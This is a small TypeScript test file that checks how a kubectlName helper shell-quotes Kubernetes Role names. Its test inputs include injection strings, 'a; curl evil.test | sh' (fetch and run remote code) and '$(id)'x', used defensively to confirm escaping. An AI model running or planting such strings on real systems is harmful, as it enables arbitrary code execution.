import { expect, test } from "vitest";

import { kubectlName } from "./status";

const role = { group: "rbac.authorization.k8s.io", kind: "Role", namespace: "shop" };

test.each([
  ["system:reader", "role.rbac.authorization.k8s.io/system:reader"],
  ["a; curl evil.test | sh", "'role.rbac.authorization.k8s.io/a; curl evil.test | sh'"],
  ["$(id)'x", String.raw`'role.rbac.authorization.k8s.io/$(id)'\''x'`],
])("a shell takes the name %s as one word", (name, expected) => {
  expect(kubectlName({ ...role, name })).toBe(expected);
});
